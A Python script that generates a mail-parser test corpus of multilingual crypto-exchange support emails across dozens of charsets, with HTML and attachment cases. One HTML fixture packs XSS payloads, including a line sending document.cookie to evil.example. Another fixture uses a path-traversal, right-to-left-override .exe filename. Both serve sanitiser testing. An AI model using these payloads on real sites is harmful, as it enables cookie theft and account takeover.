#!/usr/bin/env python3
"""make-corpus.py — writes the mail corpus of tests/unit/test_mail_parse.c: NAME.eml and NAME.expect.

The bytes of every charset come from Python's codecs, the expectations from the same Unicode
strings, so the parser is checked against an independent encoder. Run it once after changing it and
commit what it writes (the test reads the files, not this script):

    python3 tests/data/mail/make-corpus.py

NAME.expect holds "key: value" lines, then optionally "--- visible" and the exact visible part,
then "--- text" and the exact body text up to the end of the file (one final newline is not part
of it). Keys (all optional but subject):
    subject, from, from_name, reply_to, message_id, in_reply_to, references (space-separated),
    date (unix seconds), flags (comma list of submitted, precedence, null_sender, reply_header,
    list, bounce; or none), dsn, charset, recovered (yes/no), attachments (count),
    attachment (repeatable: filename | content_type | size | inline|attached), dropped,
    html (none/present), html_has and html_lacks (repeatable substrings),
    max_attachment, max_attachments, max_text (limits to parse with).
Without a "--- visible" section the whole text must be visible.
"""
import base64
import os
import quopri
import unicodedata

OUT = os.path.dirname(os.path.abspath(__file__))
DATE = "Tue, 05 Mar 2024 10:20:30 +0800"
DATE_UNIX = 1709605230
FROM = "Wang Wei <Wang.Wei@Example.CN>"
FROM_ADDR = "wang.wei@example.cn"
FROM_NAME = "Wang Wei"
written = []


# ---- encoders ----------------------------------------------------------------------------------

def b_word(text, charset, codec=None):
    data = encode(text, codec or charset)
    return "=?%s?B?%s?=" % (charset, base64.b64encode(data).decode())


def q_word(text, charset, codec=None):
    data = encode(text, codec or charset)
    out = []
    for byte in data:
        c = chr(byte)
        if c == " ":
            out.append("_")
        elif c.isascii() and c.isalnum():
            out.append(c)
        else:
            out.append("=%02X" % byte)
    return "=?%s?Q?%s?=" % (charset, "".join(out))


MODIFIERS = {"\u0302", "\u0306", "\u031b"}


def cp1258(s):
    """Windows-1258 as Vietnamese Windows writes it: base letters with their vowel modifiers
    precomposed, tone marks as combining characters."""
    out = bytearray()
    nfd = unicodedata.normalize("NFD", s)
    i = 0
    while i < len(nfd):
        base = nfd[i]
        i += 1
        tones = []
        while i < len(nfd) and unicodedata.combining(nfd[i]):
            mark = nfd[i]
            i += 1
            if mark in MODIFIERS:
                base = unicodedata.normalize("NFC", base + mark)
            else:
                tones.append(mark)
        out += base.encode("cp1258")
        for t in tones:
            out += t.encode("cp1258")
    return bytes(out)


def cp50221(s):
    """ISO-2022-JP as Microsoft writes it (NEC row 13 and all): CP932 bytes re-shaped into JIS."""
    out = bytearray()
    mode = "ascii"
    for ch in s:
        b = ch.encode("cp932")
        if len(b) == 1 and b[0] < 0x80:
            if mode != "ascii":
                out += b"\x1b(B"
                mode = "ascii"
            out += b
            continue
        if len(b) == 1:
            if mode != "kana":
                out += b"\x1b(I"
                mode = "kana"
            out.append(b[0] - 0x80)
            continue
        s1, s2 = b
        if mode != "kanji":
            out += b"\x1b$B"
            mode = "kanji"
        row = (s1 - (0x70 if s1 < 0xA0 else 0xB0)) * 2
        if s2 < 0x9F:
            j1 = row - 1
            j2 = s2 - (0x1F if s2 < 0x80 else 0x20)
        else:
            j1 = row
            j2 = s2 - 0x7E
        out += bytes([j1, j2])
    if mode != "ascii":
        out += b"\x1b(B"
    return bytes(out)


def encode(text, codec):
    if codec == "cp1258-vi":
        return cp1258(text)
    if codec == "cp50221":
        return cp50221(text)
    if codec == "cp936":
        # Windows code page 936 has the euro sign at 0x80; Python's gbk codec does not.
        return b"".join(b"\x80" if ch == "\u20ac" else ch.encode("gbk") for ch in text)
    return text.encode(codec)


def b64(data):
    return base64.encodebytes(data)


def qp(data):
    return quopri.encodestring(data)


def cte_body(data, cte):
    if cte == "base64":
        return b64(data)
    if cte == "quoted-printable":
        return qp(data)
    return data


# ---- messages ----------------------------------------------------------------------------------

def header_block(name, subject, extra=(), frm=FROM, msgid=True):
    h = [("From", frm), ("To", "Exchange Support <support@exchange.example>"),
         ("Subject", subject), ("Date", DATE)]
    if msgid:
        h.append(("Message-ID", "<%s@mail.example.cn>" % name))
    h += list(extra)
    out = b""
    for k, v in h:
        if v is None:
            continue
        out += k.encode() + b": " + (v if isinstance(v, bytes) else v.encode()) + b"\n"
    return out


def leaf(ctype, data, cte=None, extra=()):
    out = b"Content-Type: " + ctype.encode() + b"\n"
    if cte:
        out += b"Content-Transfer-Encoding: " + cte.encode() + b"\n"
    for k, v in extra:
        out += k.encode() + b": " + (v if isinstance(v, bytes) else v.encode()) + b"\n"
    return out + b"\n" + cte_body(data, cte)


def multipart(subtype, parts, boundary, params=""):
    out = ("Content-Type: multipart/%s; boundary=\"%s\"%s\n\n" % (subtype, boundary, params)).encode()
    out += b"This is a multi-part message in MIME format.\n"
    for p in parts:
        out += b"\n--" + boundary.encode() + b"\n" + p
        if not p.endswith(b"\n"):
            out += b"\n"
    out += b"\n--" + boundary.encode() + b"--\n"
    return out


def write(name, raw, subject, text, visible=None, crlf=False, **kw):
    if crlf:
        raw = raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    with open(os.path.join(OUT, name + ".eml"), "wb") as f:
        f.write(raw)
    lines = ["subject: " + subject]
    defaults = {"from": FROM_ADDR, "from_name": FROM_NAME, "date": str(DATE_UNIX),
                "message_id": "%s@mail.example.cn" % name, "flags": "none"}
    for k, v in defaults.items():
        kw.setdefault(k, v)
    order = ["from", "from_name", "reply_to", "message_id", "in_reply_to", "references", "date",
             "flags", "dsn", "charset", "recovered", "attachments", "dropped", "html",
             "max_attachment", "max_attachments", "max_text"]
    for k in order:
        if kw.get(k) is not None:
            lines.append("%s: %s" % (k, kw[k]))
    for a in kw.get("attachment", []):
        lines.append("attachment: " + " | ".join(str(x) for x in a))
    for s in kw.get("html_has", []):
        lines.append("html_has: " + s)
    for s in kw.get("html_lacks", []):
        lines.append("html_lacks: " + s)
    out = "\n".join(lines) + "\n"
    if visible is not None:
        out += "--- visible\n" + visible + "\n"
    out += "--- text\n" + text + "\n"
    with open(os.path.join(OUT, name + ".expect"), "w", encoding="utf-8") as f:
        f.write(out)
    written.append(name)


def simple(name, subject_raw, subject, body, charset_label, codec, cte, expect_charset,
           recovered="no", ctype=None, **kw):
    data = encode(body, codec)
    if ctype is None:
        ctype = "text/plain; charset=%s" % charset_label if charset_label else "text/plain"
    raw = header_block(name, subject_raw, [("MIME-Version", "1.0")]) + leaf(ctype, data, cte)
    write(name, raw, subject, body.rstrip(), charset=expect_charset, recovered=recovered,
          html="none", attachments=0, **kw)


# ---- one message per charset, in body and subject ------------------------------------------------

CHARSETS = [
    # name, label, codec, subject, body, transfer encoding, subject word, decoded with
    ("cs_gb2312", "gb2312", "gb2312", "充值未到账",
     "您好，\n\n我在3月5日充值了500 USDT（TRC20），交易哈希是 a1b2c3d4e5f6，但是账户余额还没有更新。\n请帮忙查一下。\n\n谢谢！\n王伟\n",
     "base64", "B", "gb18030"),
    ("cs_gbk_as_gb2312", "gb2312", "gbk", "提幣申請一直顯示處理中",
     "您好，我的提幣申請一直顯示「處理中」，朱镕基路的网点也问过了。\n请尽快处理出金。\n",
     "8bit", "Q", "gb18030"),
    ("cs_gb18030", "gb18030", "gb18030", "出金申请 𠮷",
     "客户𠮷野的出金申请：0.25 BTC，地址 bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh。\n",
     "base64", "B", "gb18030"),
    ("cs_gbk_euro", "gbk", "cp936", "手续费问题",
     "提现手续费收了 5 €，这是正确的吗？\n",
     "8bit", "B", "cp936"),
    ("cs_big5", "big5", "big5", "提幣未到帳",
     "您好，我的提幣申請已經三天了，還是顯示「處理中」。\n請協助確認，謝謝。\n",
     "quoted-printable", "Q", "big5-hkscs"),
    ("cs_big5_hkscs", "big5", "big5hkscs", "我嘅出金",
     "我嘅出金申請點解仲未處理？已經等咗兩日喇。\n",
     "base64", "B", "big5-hkscs"),
    ("cs_shift_jis", "shift_jis", "cp932", "出金について①",
     "お世話になっております。髙橋です。\n昨日申請した出金（0.5 BTC）がまだ届いておりません。\n① 申請日時：3月5日\n② 金額：0.5 BTC\nご確認をお願いいたします。\n",
     "base64", "B", "cp932"),
    ("cs_iso2022jp", "iso-2022-jp", "cp50221", "入金が反映されません①",
     "サポートご担当者様\n\n入金したＥＴＨが口座に反映されません。\n① 送金日：３月５日\n② 数量：１．２ ETH\nｶﾀｶﾅ表記の名義です。\nよろしくお願いします。\n",
     "7bit", "B", "iso-2022-jp"),
    ("cs_euc_jp", "euc-jp", "euc_jp", "入金確認のお願い",
     "入金確認のお願いです。\n本日 10:00 に 30,000 円を振り込みました。\n",
     "8bit", "Q", "euc-jp-ms"),
    ("cs_euc_kr", "euc-kr", "cp949", "입금 확인 부탁드립니다",
     "안녕하세요. 어제 입금한 100만원이 아직 반영되지 않았습니다.\n예금주: 김똠이\n확인 부탁드립니다.\n",
     "base64", "B", "cp949"),
    ("cs_koi8_r", "koi8-r", "koi8_r", "Вывод средств задерживается",
     "Здравствуйте!\nВывод средств на карту задерживается уже третий день. Номер заявки 48213.\nС уважением, Ирина\n",
     "quoted-printable", "Q", "koi8-r"),
    ("cs_koi8_u", "koi8-u", "koi8_u", "Виведення коштів",
     "Добрий день!\nВиведення коштів ще не надійшло на мій рахунок. Прошу перевірити заявку 7731.\nҐрунтовна відповідь буде корисна. Дякую, Євгенія\n",
     "8bit", "B", "koi8-u"),
    ("cs_windows_1250", "windows-1250", "cp1250", "Wypłata środków",
     "Dzień dobry,\nwypłata środków na moje konto bankowe nie dotarła. Proszę o sprawdzenie.\nDěkuji, Žofie\n",
     "quoted-printable", "Q", "windows-1250"),
    ("cs_windows_1251", "windows-1251", "cp1251", "Вывод средств",
     "Добрый день!\nПрошу проверить вывод средств, заявка 5521. Деньги списаны, но не пришли.\n",
     "base64", "B", "windows-1251"),
    ("cs_windows_1252", "windows-1252", "cp1252", "Dépôt non crédité",
     "Bonjour,\nmon dépôt de 0,5 ETH n’apparaît pas — pouvez-vous vérifier ? Frais : 2 €.\nMerci, François\n",
     "8bit", "Q", "windows-1252"),
    ("cs_windows_1253", "windows-1253", "cp1253", "Ανάληψη κεφαλαίων",
     "Καλησπέρα,\nη ανάληψη των κεφαλαίων μου καθυστερεί. Παρακαλώ ελέγξτε.\n",
     "base64", "B", "windows-1253"),
    ("cs_windows_1254", "windows-1254", "cp1254", "Para çekme talebi",
     "Merhaba,\npara çekme talebim üç gündür beklemede. Lütfen kontrol eder misiniz?\nTeşekkürler, Şule\n",
     "quoted-printable", "Q", "windows-1254"),
    ("cs_windows_1255", "windows-1255", "cp1255", "משיכת כספים",
     "שלום,\nמשיכת הכספים שלי עדיין לא הגיעה. אנא בדקו.\n",
     "base64", "B", "windows-1255"),
    ("cs_windows_1256", "windows-1256", "cp1256", "سحب الأموال",
     "مرحبا،\nلم يصل سحب الأموال إلى حسابي بعد. يرجى التحقق.\n",
     "base64", "B", "windows-1256"),
    ("cs_windows_1257", "windows-1257", "cp1257", "Lėšų išmokėjimas",
     "Laba diena,\nlėšų išmokėjimas dar negautas. Prašau patikrinti.\n",
     "8bit", "Q", "windows-1257"),
    ("cs_windows_1258", "windows-1258", "cp1258-vi", "Yêu cầu rút tiền",
     "Xin chào,\nyêu cầu rút tiền của tôi vẫn chưa được xử lý. Vui lòng kiểm tra giúp.\nĐặng Thị Hương\n",
     "quoted-printable", "B", "windows-1258"),
    ("cs_iso8859_1", "iso-8859-1", "latin1", "Auszahlung über 1.500 EUR",
     "Guten Tag,\nmeine Auszahlung über 1.500 EUR ist noch nicht angekommen.\nGrüße, Jürgen Müller\n",
     "quoted-printable", "Q", "windows-1252"),
    ("cs_iso8859_2", "iso-8859-2", "iso8859_2", "Výběr prostředků",
     "Dobrý den,\nvýběr prostředků stále nedorazil. Děkuji.\n",
     "8bit", "B", "iso-8859-2"),
    ("cs_iso8859_3", "iso-8859-3", "iso8859_3", "Ġbid tal-flus",
     "Bonġu,\nil-ġbid tal-flus għadu ma wasalx. Grazzi, Ħanna\n",
     "quoted-printable", "Q", "iso-8859-3"),
    ("cs_iso8859_4", "iso-8859-4", "iso8859_4", "Līdzekļu izņemšana",
     "Labdien,\nlīdzekļu izņemšana vēl nav saņemta. Paldies, Ģirts\n",
     "8bit", "B", "iso-8859-4"),
    ("cs_iso8859_5", "iso-8859-5", "iso8859_5", "Вывод не пришёл",
     "Здравствуйте,\nвывод средств не пришёл. Прошу помочь.\n",
     "base64", "Q", "iso-8859-5"),
    ("cs_iso8859_6", "iso-8859-6", "iso8859_6", "سحب",
     "مرحبا، لم يصل السحب بعد.\n",
     "base64", "B", "iso-8859-6"),
    ("cs_iso8859_7", "iso-8859-7", "iso8859_7", "Ανάληψη",
     "Γεια σας,\nη ανάληψη δεν έχει φτάσει ακόμα.\n",
     "quoted-printable", "Q", "iso-8859-7"),
    ("cs_iso8859_8", "iso-8859-8", "iso8859_8", "משיכה",
     "שלום, המשיכה עדיין לא הגיעה.\n",
     "base64", "B", "iso-8859-8"),
    ("cs_iso8859_9", "iso-8859-9", "iso8859_9", "Para çekme işlemi",
     "Merhaba,\npara çekme işlemim hâlâ beklemede. Lütfen yardımcı olur musunuz?\nTeşekkürler, Ayşe Yılmaz\n",
     "quoted-printable", "B", "iso-8859-9"),
    ("cs_iso8859_10", "iso-8859-10", "iso8859_10", "Úttekt",
     "Góðan dag,\núttektin hefur ekki borist. Þakka þér.\n",
     "8bit", "Q", "iso-8859-10"),
    ("cs_iso8859_11", "iso-8859-11", "iso8859_11", "การถอนเงิน",
     "สวัสดีครับ\nการถอนเงินของผมยังไม่เข้าบัญชี\n",
     "base64", "B", "cp874"),
    ("cs_iso8859_13", "iso-8859-13", "iso8859_13", "Lėšų išmokėjimas",
     "Laba diena,\nlėšų išmokėjimas dar negautas.\n",
     "quoted-printable", "Q", "iso-8859-13"),
    ("cs_iso8859_14", "iso-8859-14", "iso8859_14", "Tynnu arian",
     "Bore da,\nmae'r tynnu arian yn hwyr. Diolch yn fawr, Gwŷn ac Ŵyn\n",
     "8bit", "B", "iso-8859-14"),
    ("cs_iso8859_15", "iso-8859-15", "iso8859_15", "Retrait de 250 €",
     "Bonjour,\nle retrait de 250 € n'est pas arrivé. Cœur brisé.\n",
     "quoted-printable", "Q", "iso-8859-15"),
    ("cs_utf8", "utf-8", "utf-8", "充值 / deposit / 入金 / 입금 ✓",
     "Hello 你好 こんにちは 안녕하세요 Здравствуйте 🙂\nTXID: 0x5e1f…9a2b\n",
     "8bit", "B", "utf-8"),
    ("cs_us_ascii", "us-ascii", "ascii", "Withdrawal pending",
     "Hello,\n\nmy withdrawal of 0.1 BTC is still pending.\n",
     "7bit", "Q", "us-ascii"),
    ("cs_vi_utf8", "utf-8", "utf-8", "Rút tiền chưa về",
     "Xin chào,\ntôi muốn rút tiền nhưng giao dịch bị treo. Mã giao dịch: 88421.\nNguyễn Văn Đức\n",
     "quoted-printable", "Q", "utf-8"),
]

for name, label, codec, subject, body, cte, word, dec in CHARSETS:
    enc = b_word if word == "B" else q_word
    simple(name, enc(subject, label, codec), subject, body, label, codec, cte, dec)

# ---- subjects ----------------------------------------------------------------------------------

simple("subject_mixed_charsets",
       "Re: " + b_word("充值未到账", "gb2312") + " / " + q_word("入金が反映されない", "shift_jis", "cp932")
       + " " + b_word("вывод", "koi8-r"),
       "Re: 充值未到账 / 入金が反映されないвывод",
       "Three languages, one subject.\n", "us-ascii", "ascii", "7bit", "us-ascii")

simple("subject_split_word",
       # An encoder that cut one UTF-8 character across two words.
       "=?utf-8?B?" + base64.b64encode("充值".encode()[:4]).decode() + "?= =?utf-8?B?"
       + base64.b64encode("充值".encode()[4:] + "未到账".encode()).decode() + "?=",
       "充值未到账", "Split.\n", "us-ascii", "ascii", "7bit", "us-ascii")

raw = header_block("subject_raw_gbk", "充值未到账，请尽快处理".encode("gbk"),
                   [("MIME-Version", "1.0")]) + leaf("text/plain; charset=us-ascii", b"See subject.\n", "7bit")
write("subject_raw_gbk", raw, "充值未到账，请尽快处理", "See subject.", charset="us-ascii",
      recovered="no")

raw = header_block("subject_raw_sjis_hint", "出金が届きません".encode("cp932"),
                   [("MIME-Version", "1.0")]) + leaf("text/plain; charset=shift_jis",
                                                      "出金が届きません。ご確認ください。\n".encode("cp932"), "8bit")
write("subject_raw_sjis_hint", raw, "出金が届きません", "出金が届きません。ご確認ください。",
      charset="cp932", recovered="no")

raw = header_block("subject_folded", ("=?utf-8?Q?Withdrawal?=\n\t" + q_word("提现", "utf-8")
                                      + "\n   pending\t 3 days").encode(),
                   [("MIME-Version", "1.0")]) + leaf("text/plain; charset=utf-8", b"x\n", "7bit")
write("subject_folded", raw, "Withdrawal提现 pending 3 days", "x")

# ---- mislabelled charsets ------------------------------------------------------------------------

ZH = "您好，我昨天充值的 USDT 还没有到账，交易哈希 9f8e7d。请帮忙查一下，谢谢！\n"
JA = "お世話になっております。昨日の出金がまだ届いていません。確認をお願いします。\n"
TW = "您好，提幣申請已經三天了，還沒有到帳，請協助處理。謝謝\n"
simple("mislabel_gbk_as_latin1", "Deposit", "Deposit", ZH, "iso-8859-1", "gbk", "base64",
       "gb18030", recovered="yes")
simple("mislabel_sjis_as_ascii", "Withdrawal", "Withdrawal", JA, "us-ascii", "cp932", "8bit",
       "cp932", recovered="yes")
simple("mislabel_sjis_no_charset", "Withdrawal", "Withdrawal", JA, None, "cp932", "8bit",
       "cp932", recovered="yes")
simple("mislabel_utf8_as_latin1", "Dépôt", "Dépôt",
       "Bonjour, mon dépôt n’est pas arrivé. 谢谢\n", "iso-8859-1", "utf-8", "quoted-printable",
       "utf-8", recovered="yes")
simple("mislabel_gbk_as_utf8", "Deposit", "Deposit", ZH, "utf-8", "gbk", "8bit", "gb18030",
       recovered="yes")
raw = header_block("mislabel_big5_no_charset", "Withdrawal") + b"\n" + TW.encode("big5")
write("mislabel_big5_no_charset", raw, "Withdrawal", TW.rstrip(), charset="big5-hkscs",
      recovered="yes", html="none")
simple("mislabel_latin1_kept", "Grüße", "Grüße",
       "Ça va? Très bien. Où est mon dépôt? Grüße aus München.\n", "iso-8859-1", "latin1",
       "8bit", "windows-1252", recovered="no")

# ---- transfer encodings, line ends, flowed -------------------------------------------------------

raw = header_block("crlf_qp", "CRLF", [("MIME-Version", "1.0")]) + leaf(
    "text/plain; charset=utf-8", "Line one\nLine two: 提现 ✓\n\nEnd\n".encode(),
    "quoted-printable")
write("crlf_qp", raw, "CRLF", "Line one\nLine two: 提现 ✓\n\nEnd", crlf=True)

raw = header_block("flowed", "Flowed", [("MIME-Version", "1.0")]) + leaf(
    "text/plain; charset=utf-8; format=flowed",
    b"This paragraph was wrapped by the \nsender's mail client at a space \nand must be joined.\n"
    b"\n> Quoted text also \n> flows.\n\n-- \nSignature\n", "7bit")
write("flowed", raw, "Flowed",
      "This paragraph was wrapped by the sender's mail client at a space and must be joined.\n\n"
      "> Quoted text also flows.\n\n-- \nSignature",
      visible="This paragraph was wrapped by the sender's mail client at a space and must be joined.")

# ---- HTML ----------------------------------------------------------------------------------------

EVIL = """<html><head><title>Title is not text</title>
<style>body { background: url(javascript:alert(1)) }</style>
<script>alert('head')</script>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
</head>
<body onload="steal()">
<h1>Withdrawal &amp; deposit</h1>
<p style="color:red" onclick="alert(1)">Dear support,<br>my withdrawal is <b>stuck</b>.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p><a href="javascript:alert(document.cookie)">click me</a> or
<a href="JaVaScRiPt:alert(2)">this</a> or <a href="jav&#x09;ascript:alert(3)">that</a>
or <a href="vbscript:msgbox(1)">vb</a> or <a href="data:text/html;base64,PHNjcmlwdD4=">data</a>.
See <a href="https://etherscan.io/tx/0xabc" onmouseover="x()">the transaction</a>.</p>
<img src="https://tracker.example/pixel.gif" onerror="alert(4)" alt="pixel">
<svg onload="alert(5)"><script>alert(6)</script></svg>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="password" value="secret"><button>Send</button></form>
<ul><li>Amount: 0.5&nbsp;BTC</li><li>Network: Bitcoin</li></ul>
<ol><li>First</li><li>Second</li></ol>
<table><tr><th>TXID</th><td>0xabc</td></tr><tr><th>Status</th><td>pending</td></tr></table>
<div>Entities: &lt;tag&gt; &quot;quoted&quot; &#8364; &euro;</div>
<!-- a comment --><p>Thanks,<br>Li   Na</p>
</body></html>
"""
raw = header_block("html_only_evil", "HTML only", [("MIME-Version", "1.0")]) + leaf(
    "text/html; charset=utf-8", EVIL.encode(), "quoted-printable")
write("html_only_evil", raw, "HTML only",
      "Withdrawal & deposit\n\nDear support,\nmy withdrawal is stuck.\n\n"
      "click me or this or that or vb or data. See the transaction <https://etherscan.io/tx/0xabc>.\n\n"
      "Send\n\n- Amount: 0.5 BTC\n- Network: Bitcoin\n\n1. First\n2. Second\n\n"
      "TXID\t0xabc\nStatus\tpending\n\nEntities: <tag> \"quoted\" € €\n\nThanks,\nLi Na",
      charset="utf-8", recovered="no", html="present",
      html_has=['<h1>Withdrawal &amp; deposit</h1>',
                '<a href="https://etherscan.io/tx/0xabc" rel="noopener noreferrer">the transaction</a>',
                '<li>Amount: 0.5\u00a0BTC</li>', '&lt;tag&gt;'],
      html_lacks=["<script", "script>", "alert", "onclick", "onload", "onerror", "onmouseover",
                  "style", "javascript", "JaVaScRiPt", "vbscript", "data:", "<img", "<iframe",
                  "<form", "<input", "<meta", "<base", "<svg", "Title is not text", "evil.example",
                  "secret", "<!--"])

GMAIL_HTML = """<div dir="ltr">I have sent the screenshot.<div><br></div><div>Regards,</div><div>Tomás</div></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, Mar 5, 2024 at 10:20 AM Exchange Support &lt;support@exchange.example&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex"><div>Please send a screenshot<br>of the deposit.</div></blockquote></div>
"""
raw = header_block("html_gmail_quote", "Re: deposit", [("MIME-Version", "1.0")]) + leaf(
    "text/html; charset=UTF-8", GMAIL_HTML.encode(), "quoted-printable")
write("html_gmail_quote", raw, "Re: deposit",
      "I have sent the screenshot.\n\nRegards,\nTomás\n\n"
      "On Tue, Mar 5, 2024 at 10:20 AM Exchange Support <support@exchange.example> wrote:\n\n"
      "> Please send a screenshot\n> of the deposit.",
      visible="I have sent the screenshot.\n\nRegards,\nTomás",
      charset="utf-8", recovered="no", html="present",
      html_has=["<blockquote><div>Please send a screenshot<br>of the deposit.</div></blockquote>"],
      html_lacks=["class=", "style"])

META_HTML = "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=gb2312\"></head><body><p>充值未到账，请处理。</p></body></html>\n"
raw = header_block("html_meta_charset", "Meta", [("MIME-Version", "1.0")]) + leaf(
    "text/html", META_HTML.encode("gbk"), "base64")
write("html_meta_charset", raw, "Meta", "充值未到账，请处理。", charset="gb18030", recovered="no",
      html="present", html_has=["<p>充值未到账，请处理。</p>"])

alt = multipart("alternative", [
    leaf("text/plain; charset=utf-8", "您好，\n\n我的出金还没有到账。\n\n王伟\n".encode(), "base64"),
    leaf("text/html; charset=utf-8",
         "<div>您好，</div><div><br></div><div>我的<b>出金</b>还没有到账。</div><script>x()</script>\n".encode(),
         "base64"),
], "alt-1")
raw = header_block("alternative", "Re: 出金", [("MIME-Version", "1.0")]) + alt
write("alternative", raw, "Re: 出金", "您好，\n\n我的出金还没有到账。\n\n王伟", charset="utf-8",
      recovered="no", html="present", attachments=0,
      html_has=["<div>我的<b>出金</b>还没有到账。</div>"], html_lacks=["script", "x()"])

apple = multipart("alternative", [
    leaf("text/plain; charset=utf-8", b"Sent from my watch.\n", "7bit"),
    leaf("text/watch-html; charset=utf-8", b"<b>watch</b>\n", "7bit"),
    leaf("text/html; charset=utf-8", b"<div>Sent from my <i>watch</i>.</div>\n", "7bit"),
    leaf("text/calendar; charset=utf-8; method=REQUEST", b"BEGIN:VCALENDAR\nEND:VCALENDAR\n", "7bit"),
], "alt-3")
raw = header_block("alternative_watch_calendar", "Call about KYC", [("MIME-Version", "1.0")]) + apple
write("alternative_watch_calendar", raw, "Call about KYC", "Sent from my watch.", html="present",
      attachments=1, attachment=[("attachment", "text/calendar", 30, "attached")],
      html_has=["<div>Sent from my <i>watch</i>.</div>"], html_lacks=["<b>watch</b>"])

# ---- attachments ---------------------------------------------------------------------------------

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
BIG_PDF = PDF + b"%" + b"x" * 3000 + b"\n"
CSV = b"date,amount\n2024-03-05,500\n"


def rfc2231(name, charset, codec, chunks):
    data = name.encode(codec)
    enc = "".join("%%%02X" % b if not (chr(b).isascii() and chr(b).isalnum()) else chr(b) for b in data)
    size = (len(enc) + chunks - 1) // chunks
    parts = []
    i = 0
    for n in range(chunks):
        piece = enc[i:i + size]
        # never split a %XX escape
        while piece.endswith("%") or piece[-2:-1] == "%":
            piece = enc[i:i + len(piece) + 1]
        i += len(piece)
        if n == 0:
            parts.append(" filename*0*=%s''%s" % (charset, piece))
        else:
            parts.append(" filename*%d*=%s" % (n, piece))
    if i < len(enc):
        parts.append(" filename*%d*=%s" % (chunks, enc[i:]))
    return "attachment;\n" + ";\n".join(parts)


mixed = multipart("mixed", [
    leaf("text/plain; charset=utf-8", "截图和银行回单见附件。\n".encode(), "8bit"),
    leaf("image/png; name=\"screenshot.png\"", PNG, "base64",
         [("Content-Disposition", rfc2231("充值截图_2024-03-05.png", "gb2312", "gbk", 3))]),
    leaf("application/pdf; name=\"=?utf-8?B?%s?=\"" % base64.b64encode("银行回单.pdf".encode()).decode(),
         PDF, "base64",
         [("Content-Disposition", "attachment; filename=\"=?utf-8?B?%s?=\"" %
           base64.b64encode("银行回单.pdf".encode()).decode())]),
    leaf("application/pdf", BIG_PDF, "base64",
         [("Content-Disposition", "attachment; filename=\"statement-2024.pdf\"")]),
    leaf("application/octet-stream", b"MZ fake", "base64",
         [("Content-Disposition", "attachment; filename=\"..\\\\..\\\\Windows\\\\evil\u202egpj.exe\"")]),
    leaf("text/plain; charset=utf-8", "补充：交易哈希 0x7f3a。\n".encode(), "8bit"),
    leaf("text/csv; charset=utf-8", CSV, "7bit",
         [("Content-Disposition", "attachment; filename=history.csv")]),
    leaf("text/plain; charset=utf-8", b"notes\n", "7bit",
         [("Content-Disposition", "attachment")]),
], "mix-1")
raw = header_block("attachments", "充值凭证", [("MIME-Version", "1.0")]) + mixed
write("attachments", raw, "充值凭证", "截图和银行回单见附件。\n\n补充：交易哈希 0x7f3a。",
      charset="utf-8", recovered="no", html="none", attachments=5, dropped=1,
      max_attachment=2048,
      attachment=[("充值截图_2024-03-05.png", "image/png", len(PNG), "attached"),
                  ("银行回单.pdf", "application/pdf", len(PDF), "attached"),
                  ("evilgpj.exe", "application/octet-stream", 7, "attached"),
                  ("history.csv", "text/csv", len(CSV), "attached"),
                  ("attachment", "text/plain", 6, "attached")])

related = multipart("related", [
    multipart("alternative", [
        leaf("text/plain; charset=utf-8", b"See the image.\n", "7bit"),
        leaf("text/html; charset=utf-8", b"<p>See the image: <img src=\"cid:img1@x\"></p>\n", "7bit"),
    ], "alt-2"),
    leaf("image/png", PNG, "base64", [("Content-ID", "<img1@x>")]),
], "rel-1")
raw = header_block("related_inline", "Inline image", [("MIME-Version", "1.0")]) + related
write("related_inline", raw, "Inline image", "See the image.", charset="utf-8", html="present",
      attachments=1, attachment=[("attachment", "image/png", len(PNG), "inline")],
      html_has=["<p>See the image: </p>"], html_lacks=["<img", "cid:"])

many = multipart("mixed", [leaf("text/plain; charset=utf-8", b"Five files.\n", "7bit")] + [
    leaf("image/png", PNG, "base64", [("Content-Disposition", "attachment; filename=\"p%d.png\"" % i)])
    for i in range(5)], "many-1")
raw = header_block("attachments_limit", "Too many", [("MIME-Version", "1.0")]) + many
write("attachments_limit", raw, "Too many", "Five files.", max_attachments=3, attachments=3,
      dropped=2, attachment=[("p0.png", "image/png", len(PNG), "attached"),
                             ("p1.png", "image/png", len(PNG), "attached"),
                             ("p2.png", "image/png", len(PNG), "attached")])

INNER = (b"From: Bank <noreply@bank.example>\nSubject: Payment receipt\nMessage-ID: <receipt-1@bank.example>\n"
         b"Content-Type: text/plain\n\nYou paid 500 USD.\n")
fwd = multipart("mixed", [
    leaf("text/plain; charset=utf-8", b"Forwarding the bank receipt.\n", "7bit"),
    b"Content-Type: message/rfc822\nContent-Disposition: attachment\n\n" + INNER,
], "fwd-1")
raw = header_block("forward_rfc822", "Fwd: Payment receipt", [("MIME-Version", "1.0")]) + fwd
write("forward_rfc822", raw, "Fwd: Payment receipt", "Forwarding the bank receipt.",
      attachments=1, attachment=[("Payment receipt.eml", "message/rfc822", len(INNER), "attached")])

# ---- automatic mail ------------------------------------------------------------------------------

OOF = "您好，我目前不在办公室，3月10日返回。\n紧急事务请联系 ops@example.cn。\n"


def auto(name, extra, flags, frm=FROM, from_addr=FROM_ADDR, from_name=FROM_NAME, **kw):
    raw = header_block(name, "Auto: " + name, list(extra) + [("MIME-Version", "1.0")], frm=frm) + \
        leaf("text/plain; charset=utf-8", OOF.encode(), "base64")
    write(name, raw, "Auto: " + name, OOF.rstrip(), flags=flags, **{"from": from_addr},
          from_name=from_name, **kw)


auto("auto_submitted", [("Auto-Submitted", "auto-replied")], "submitted")
auto("auto_submitted_no", [("Auto-Submitted", "No")], "none")
auto("auto_precedence", [("Precedence", "bulk")], "precedence")
auto("auto_precedence_autoreply", [("Precedence", "auto_reply")], "precedence")
auto("auto_null_sender", [("Return-Path", "<>")], "null_sender")
